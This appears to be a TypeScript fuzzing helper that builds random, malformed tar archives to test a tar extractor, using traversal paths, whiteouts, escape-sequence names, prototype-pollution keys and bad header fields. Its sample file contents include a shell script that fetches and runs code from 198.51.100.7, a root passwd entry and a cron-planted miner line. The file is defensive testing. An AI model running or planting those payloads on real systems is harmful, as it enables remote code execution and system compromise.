import type { Random } from '../../testkit/random.ts';
import { padded, paxRecords, tarHeader } from '../../testkit/tar.ts';

const NAMES = [
  'a',
  'b',
  'a.b',
  'etc',
  'passwd',
  '..',
  '.',
  '',
  '.wh.a',
  '.wh..wh..opq',
  '.wh.',
  '.wh..',
  'ä',
  '日本',
];
const AWKWARD = [
  'x\ny',
  'x\x1b[2Jy',
  'x\u202ey',
  '\xff\xfe',
  '__proto__',
  'n'.repeat(90),
  'C:\\a',
  ' ',
  '-r',
];
const TYPES = ['0', '0', '0', '1', '2', '5', '5', '3', '6', '7', 'S', 'Z', '\0'];
const NUMBERS = ['-1', '0', '1', '5', '1024', '0x10', '1e3', '9'.repeat(30), '', '1.5', '077', ' 7'];
const TEXTS = [
  '#!/bin/sh\nexec "$@"\n',
  '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n',
  'root:x:0:0::/root:/bin/sh\n',
  '* * * * * root /x -o stratum+tcp://pool.example:3333\n',
  '\x7fELF\x02\x01\x01',
  '\xff\xfe#\0!\0',
];

/** A tar whose headers are sound and whose content is anything: links in circles, whiteouts, lies. */
export function randomTar(random: Random, most = 24): Buffer {
  const parts: Buffer[] = [];
  for (let count = random.below(most); count > 0; count--) parts.push(...randomEntry(random));
  if (random.chance(0.9)) parts.push(Buffer.alloc(1024));
  if (random.chance(0.1)) parts.push(...randomEntry(random));
  return Buffer.concat(parts);
}

/** Corrects the checksum of every block that looks like a header, so that changed ones are not just refused. */
export function fixChecksums(bytes: Buffer): Buffer {
  for (let at = 0; at + 512 <= bytes.length; at += 512) {
    const block = bytes.subarray(at, at + 512);
    if (block.toString('latin1', 257, 262) !== 'ustar') continue;
    block.fill(' ', 148, 156);
    const sum = block.reduce((total, byte) => total + byte, 0);
    block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  }
  return bytes;
}

function randomEntry(random: Random): Buffer[] {
  const data = randomData(random);
  const typeflag = random.pick(TYPES);
  const parts: Buffer[] = [];
  if (random.chance(0.2)) parts.push(...randomExtension(random));
  const isFile = '07S\0Z'.includes(typeflag);
  const size = random.chance(0.05)
    ? random.pick([1, 511, 513, 0o77777777777, Buffer.alloc(12, 0xff)])
    : undefined;
  parts.push(
    tarHeader({
      name: randomPath(random),
      typeflag,
      size: size ?? (isFile ? data.length : 0),
      mode: random.pick([0o644, 0o755, 0o4755, 0o7777, Buffer.from('garbage!')]),
      uid: random.pick([0, 1000, Buffer.alloc(8, 0xff)]),
      linkname: random.chance(0.5) ? randomPath(random) : '',
      ...(random.chance(0.1) ? { prefix: randomPath(random) } : {}),
      ...(random.chance(0.1) ? { magic: random.pick(['', 'ustar  \0']) } : {}),
      ...(random.chance(0.01) ? { checksum: random.below(10_000) } : {}),
    }),
  );
  if (isFile && random.chance(0.97)) parts.push(padded(data));
  return parts;
}

function randomExtension(random: Random): Buffer[] {
  const typeflag = random.pick(['x', 'x', 'x', 'g', 'L', 'K']);
  const bytes =
    typeflag === 'L' || typeflag === 'K' ? Buffer.from(`${randomPath(random)}\0`) : randomRecords(random);
  return [tarHeader({ name: 'extension', typeflag, size: bytes.length }), padded(bytes)];
}

function randomRecords(random: Random): Buffer {
  const records: Record<string, string> = {};
  for (let count = random.below(4); count > 0; count--) {
    const key = random.pick([
      'path',
      'linkpath',
      'size',
      'uid',
      'gid',
      'mtime',
      'GNU.sparse.major',
      'GNU.sparse.minor',
      'GNU.sparse.name',
      'GNU.sparse.realsize',
      'GNU.sparse.size',
      'GNU.sparse.map',
      'constructor',
      '__proto__',
    ]);
    const isPath = key.endsWith('path') || key.endsWith('name');
    Object.defineProperty(records, key, {
      value: isPath ? randomPath(random) : random.pick(NUMBERS),
      enumerable: true,
      configurable: true,
    });
  }
  return paxRecords(records);
}

function randomPath(random: Random): string {
  const names: string[] = [];
  for (let count = random.below(5); count > 0; count--)
    names.push(random.pick(random.chance(0.8) ? NAMES : AWKWARD));
  return `${random.chance(0.1) ? '/' : ''}${names.join('/')}`;
}

function randomData(random: Random): Buffer {
  if (random.chance(0.3)) return Buffer.alloc(0);
  if (random.chance(0.5)) return Buffer.from(random.pick(TEXTS), 'latin1');
  const byte = random.below(256);
  return Buffer.alloc(random.below(3000), random.chance(0.5) ? byte : Buffer.from([byte, 0, 65, 10, 200]));
}
